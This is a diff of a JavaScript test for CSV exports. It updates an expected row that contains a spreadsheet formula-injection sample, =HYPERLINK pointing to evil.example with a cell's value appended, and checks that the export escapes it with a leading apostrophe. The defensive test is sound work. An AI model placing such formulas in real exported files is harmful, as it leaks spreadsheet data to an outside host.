@@ -70,7 +70,7 @@ describe("exports", () => {
     const lines = (await csvOf("after-sales", "")).slice(1).trim().split("\n");
     expect(lines).toHaveLength(2);
     // csv-stringify doubles the quotes inside and wraps the cell; the cell's text starts with '.
-    expect(lines[1]).toContain(`,123.45,其他,"'=HYPERLINK(""https://evil.example/?d=""&C2,""查看"")",`);
+    expect(lines[1]).toContain(`,123.45,0.00,其他,"'=HYPERLINK(""https://evil.example/?d=""&C2,""查看"")",`);
     expect(lines[1]).not.toMatch(/,"?=HYPERLINK/);
   });
 
